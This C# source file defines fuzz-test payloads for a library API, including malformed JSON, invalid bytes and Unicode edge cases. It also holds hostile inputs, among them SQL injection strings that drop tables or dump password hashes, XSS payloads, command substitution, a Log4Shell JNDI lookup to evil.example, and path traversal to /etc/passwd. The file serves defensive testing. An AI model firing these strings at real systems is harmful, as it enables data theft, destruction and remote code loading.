namespace Library.FuzzTests;

/// <summary>The hostile values, by family. Strings are C# strings; <see cref="RawJsonStrings"/> are JSON text.</summary>
public static class Payloads
{
    public const string BrokenJson = "broken-json";
    public const string Truncated = "truncated-body";
    public const string WrongContentType = "wrong-content-type";
    public const string WrongTypes = "wrong-types";
    public const string Huge = "huge-values";
    public const string Unicode = "unicode";
    public const string Injection = "sql-and-script";
    public const string PathTricks = "path-tricks";
    public const string AuthTricks = "auth-tricks";

    public static readonly string[] Families = [BrokenJson, Truncated, WrongContentType, WrongTypes, Huge, Unicode, Injection, PathTricks, AuthTricks];

    /// <summary>Bodies that are not JSON at all, or not quite.</summary>
    public static readonly string[] BrokenBodies =
    [
        "{", "}", "{\"", "{\"email\":", "{\"email\" \"x\"}", "{\"a\":1,,\"b\":2}", "{\"a\":1,}", "[", "[1,2", "{'a':'b'}", "{a:1}",
        "nul", "tru", "undefined", "NaN", "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":\"\\x41\"}", "{\"a\":\"\\u12\"}",
        "{\"a\":\"unterminated}", "{}}", "{} {}", "{/* comment */}", "// comment\n{}", "{\"a\":01}", "{\"a\":+1}", "{\"a\":.5}",
        "{\"a\":1e}", "{\"a\":\"tab\there\"}", "{\"a\":\"new\nline\"}", "<xml/>", "a=1&b=2", "\u0000", "{\"a\":\"\u0000\"}", " ",
    ];

    /// <summary>Bytes that are not UTF-8, sent as if they were JSON.</summary>
    public static readonly byte[][] BrokenBytes =
    [
        [0xFF, 0xFE, 0x7B, 0x00, 0x7D, 0x00],
        [0x7B, 0x22, 0x61, 0x22, 0x3A, 0x22, 0xC3, 0x28, 0x22, 0x7D],
        [0x7B, 0x22, 0x61, 0x22, 0x3A, 0x22, 0xED, 0xA0, 0x80, 0x22, 0x7D],
        [0x7B, 0x22, 0x61, 0x22, 0x3A, 0x22, 0xC0, 0xAF, 0x22, 0x7D],
        [0x7B, 0x22, 0xF8, 0x88, 0x80, 0x80, 0x80, 0x22, 0x3A, 0x31, 0x7D],
    ];

    public static readonly string[] ContentTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "",
        "application/jsonx", "image/png", "application/json-patch", "text/html; charset=utf-8",
    ];

    public static readonly string[] UnicodeStrings =
    [
        "\0", "a\0b", "nul at the end\0", "\u202Eevil\u202C", "مرحبا بالعالم", "שלום עולם", "😀📚🔥", "👨‍👩‍👧‍👦", "e\u0301\u0301\u0301\u0301\u0301",
        "Z̴̧̛̤̗a̷̢͎l̸̰͝g̷̣̿o̵̡͐", "\uFEFFbom", "\uFFFF\uFFFE", "\u200B\u200D\u2060", "𝕳𝖊𝖑𝖑𝖔", "next\u0085line", "\u2028\u2029", "İıßﬀǅ",
        "\u001b[31mred\u001b[0m", "Ω≈ç√∫", "\u00A0", "\u3000全角\u3000", "\u0007bell", "\uD83D\uDE00\uD83D", "ﷺ", "\u0600\u0601",
    ];

    /// <summary>JSON string literals whose escapes decode to invalid UTF-16 or control characters.</summary>
    public static readonly string[] RawJsonStrings =
    [
        "\"\\ud800\"", "\"\\udc00\"", "\"a\\ud800b\"", "\"\\udfff\\ud800\"", "\"\\ud83d\"", "\"\\u0000\"", "\"x\\u0000y\"",
        "\"\\u202e\\u0000\\ud800\"", "\"\\uffff\"", "\"\\u001f\"",
    ];

    /// <summary>The same hostile characters, percent-encoded for a URL (raw bytes, some not UTF-8).</summary>
    public static readonly string[] EncodedUnicode =
    [
        "%00", "a%00b", "%E2%80%AE", "%F0%9F%98%80", "%C0%AF", "%ED%A0%80", "%FF", "%FE%FF", "e%CC%81%CC%81%CC%81", "%EF%BB%BF",
        "%E2%80%8B", "%1B%5B31m", "%D9%85%D8%B1%D8%AD%D8%A8%D8%A7", "%F4%90%80%80", "%C3", "%25", "%u0041",
    ];

    public static readonly string[] InjectionStrings =
    [
        "' OR '1'='1", "'; DROP TABLE books; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--", "') UNION SELECT id, password_hash FROM users--",
        "%", "_", "%%", "\\", "\\\\'", "$$; DROP TABLE loans; $$", "E'\\x27'", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)", "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%s%s%s%n",
        "a & b | !c <-> d:*", "!!!", "((((", "\"unbalanced", ":*", "'", "''", "--", "/*", "admin'--", "1' ORDER BY 100--",
        "; COPY users TO '/tmp/x'", "<svg/onload=alert(1)>", "`id`", "$(id)", "a' AND pg_sleep(3) IS NULL --", "\\'; SELECT 1; --",
        "1 OR 1=1", "null", "true", "-1", "*", "?", "#", "&", "=", "+",
    ];

    public static readonly string[] WrongJsonForString = ["123", "true", "[]", "{}", "[\"a\"]", "{\"x\":\"y\"}", "1.5", "-0", "[[]]"];
    public static readonly string[] WrongJsonForNumber = ["\"12\"", "\"abc\"", "\"\"", "true", "[]", "{}", "1.5", "\"1e3\"", "\"0x10\"", "[1]", "\"١٢\"", "\" 7 \""];
    public static readonly string[] WrongJsonForGuid = ["123", "\"not-a-guid\"", "\"\"", "true", "[]", "{}", "\"00000000-0000-0000-0000-000000000000\"", "\"1\"", "\"zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz\""];
    public static readonly string[] WrongJsonForList = ["\"0197a4b2-0000-7000-8000-000000000000\"", "{}", "[123]", "[\"bad\"]", "[null]", "[[]]", "[{}]", "true", "1"];
    public static readonly string[] WrongBodies = ["null", "[]", "\"text\"", "42", "true", "{}", "[{}]"];

    public static readonly string[] HugeNumbers =
    [
        "2147483648", "-2147483649", "9223372036854775808", "1e400", "-1e400", "0", "-1", "2147483647", "-2147483648", "1e10",
        "3.4e38", "99999999999999999999999999999", "-0.0", "1E+2",
    ];

    public static readonly string[] NumberEdges = ["0", "-1", "31", "2147483647", "2147483648", "-2147483649", "1e400"];

    /// <summary>Outside 1..100 (pageSize), 1..1000000 (page), 1..50 (limit), or not an int at all.</summary>
    public static readonly string[] PagingEdges = ["0", "-1", "1000001", "2147483648", "-99999999999"];

    public static readonly string[] HugeQueryNumbers = ["0", "-1", "101", "1000001", "2147483647", "2147483648", "99999999999999999999", "-2147483649", "1e3", "0x10", "1.5", "+5", " 5"];

    public static readonly string[] PathIds =
    [
        "1", "abc", "-1", "0", "null", "undefined", "00000000-0000-0000-0000-000000000000", "..%2F..%2Fhealth", "%2F", "..%2Fusers",
        "%2e%2e", "a%00b", "%F0%9F%98%80", "1%20OR%201=1", "'%3B%20DROP%20TABLE%20books", "x;y=z", "%252F", "%C0%AF", "%ED%A0%80",
        "{random}/extra", "{random}%2F..%2F..%2Fusers", "{random-braced}", "{random-n}", "{random-upper}", "{long}",
    ];
}
